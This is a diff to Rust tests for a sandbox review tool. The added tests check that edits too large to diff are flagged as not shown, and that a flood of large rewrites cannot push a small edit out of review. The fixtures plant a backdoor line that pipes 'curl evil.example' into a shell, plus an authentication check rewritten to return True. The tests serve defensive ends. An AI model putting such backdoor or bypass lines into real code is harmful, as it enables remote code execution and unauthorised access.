@@ -4,12 +4,19 @@
 //! in a debug build, so minutes for the layer), is reviewed within the
 //! review's budget for line diffs; the files diffed past their deadline
 //! say they are coarse, and those left when the budget is spent say so.
+//!
+//! What a review does not show is flagged (outside review 21, finding 5):
+//! a one-line edit in a file past the line bound, or in a file left when
+//! the budget is spent, was shown only as "not diffed" with no flag, and a
+//! token's commit applied it unseen. The budget goes to the smallest
+//! changes first, so that a flood of large files cannot push a small edit
+//! out of the review.
 
 use crate::common::TempDir;
 use std::fs;
 use std::time::{Duration, Instant};
 use warden_workspace::textdiff::{FILE_DEADLINE, REVIEW_BUDGET};
-use warden_workspace::{Content, CreateOptions, Cut, DiffOptions, Store};
+use warden_workspace::{Change, Content, CreateOptions, Cut, DiffOptions, Store, NOT_SHOWN};
 
 #[test]
 fn a_layer_of_many_quadratic_files_is_reviewed_within_the_budget_and_says_what_was_cut() {
@@ -57,7 +64,8 @@ fn a_layer_of_many_quadratic_files_is_reviewed_within_the_budget_and_says_what_w
     }
     assert!(coarse >= 1, "some files are diffed, coarsely");
     assert!(cut >= 1, "the files past the budget are left undiffed");
-    // In the order of the walk: once cut, every later file too.
+    // Smallest first (here, files of one size, in the order of the walk):
+    // once cut, every later file too.
     let first_cut = changes
         .iter()
         .position(|c| matches!(c.content, Some(Content::NotDiffed { .. })))
@@ -78,4 +86,109 @@ fn a_layer_of_many_quadratic_files_is_reviewed_within_the_budget_and_says_what_w
         "{:?}",
         one[0].content
     );
+}
+
+fn not_shown(c: &Change) -> bool {
+    c.flags.iter().any(|f| f.rule == NOT_SHOWN)
+}
+
+#[test]
+fn a_one_line_edit_in_a_file_past_the_line_bound_is_flagged_as_not_shown() {
+    let state = TempDir::new("hidden-state");
+    let real = TempDir::new("hidden-real");
+    let line = |i: usize| format!("function f{i}(x){{ return x+{i}; }}\n");
+    let old: String = (0..60_000).map(line).collect();
+    fs::write(real.join("vendor.js"), &old).unwrap();
+    // Too large to be read as text at all.
+    let big = "a line of a large generated file\n".repeat((9 << 20) / 33);
+    fs::write(real.join("schema.txt"), &big).unwrap();
+    fs::write(real.join("small.txt"), "one\n").unwrap();
+    let store = Store::open(state.path()).expect("open store");
+    let sb = store
+        .create("t", &CreateOptions::new(real.path()))
+        .expect("create sandbox");
+    let backdoor = "function f29999(x){ require(\"child_process\").exec(\"curl evil.example|sh\"); return x+29999; }\n";
+    fs::write(
+        sb.upper().join("vendor.js"),
+        old.replace(&line(29_999), backdoor),
+    )
+    .unwrap();
+    fs::write(
+        sb.upper().join("schema.txt"),
+        big.replacen("a line", "b line", 1),
+    )
+    .unwrap();
+    fs::write(sb.upper().join("small.txt"), "two\n").unwrap();
+
+    let changes = sb.diff(&DiffOptions::default()).expect("diff");
+    let by = |name: &str| {
+        changes
+            .iter()
+            .find(|c| c.path.to_str() == Some(name))
+            .unwrap()
+    };
+    let vendor = by("vendor.js");
+    assert!(
+        matches!(
+            vendor.content,
+            Some(Content::NotDiffed {
+                reason: Cut::TooManyLines,
+                ..
+            })
+        ),
+        "{:?}",
+        vendor.content
+    );
+    assert!(not_shown(vendor), "{:?}", vendor.flags);
+    let schema = by("schema.txt");
+    assert!(matches!(schema.content, Some(Content::Binary { .. })));
+    assert!(not_shown(schema), "{:?}", schema.flags);
+    assert!(!not_shown(by("small.txt")), "a change shown in full");
+}
+
+#[test]
+fn a_flood_of_large_rewrites_does_not_push_a_two_line_edit_out_of_the_review() {
+    let state = TempDir::new("flood-state");
+    let real = TempDir::new("flood-real");
+    let files = 10;
+    for i in 0..files {
+        fs::write(real.join(format!("a{i}.txt")), "# old\nhello\n").unwrap();
+    }
+    let auth = "def check(user, pw):\n    return db.verify(user, pw)\n";
+    fs::write(real.join("zz_auth.py"), auth).unwrap();
+    let store = Store::open(state.path()).expect("open store");
+    let sb = store
+        .create("t", &CreateOptions::new(real.path()))
+        .expect("create sandbox");
+    for i in 0..files {
+        let text: String = (0..45_000).map(|n| format!("x{i}-{n}\n")).collect();
+        fs::write(sb.upper().join(format!("a{i}.txt")), text).unwrap();
+    }
+    fs::write(
+        sb.upper().join("zz_auth.py"),
+        auth.replace("db.verify(user, pw)", "True"),
+    )
+    .unwrap();
+
+    let changes = sb.diff(&DiffOptions::default()).expect("diff");
+    let auth = changes
+        .iter()
+        .find(|c| c.path.to_str() == Some("zz_auth.py"))
+        .unwrap();
+    match &auth.content {
+        Some(Content::Text {
+            patch: Some(p),
+            coarse: false,
+            ..
+        }) => assert!(p.contains("+    return True"), "{p}"),
+        other => panic!("the two-line edit is not shown: {other:?}"),
+    }
+    assert!(auth.flags.is_empty(), "{:?}", auth.flags);
+    // The budget was spent on the flood: what it cut is flagged.
+    let cut: Vec<&Change> = changes
+        .iter()
+        .filter(|c| matches!(c.content, Some(Content::NotDiffed { .. })))
+        .collect();
+    assert!(!cut.is_empty(), "the flood outlasts the budget");
+    assert!(cut.iter().all(|c| not_shown(c)));
 }
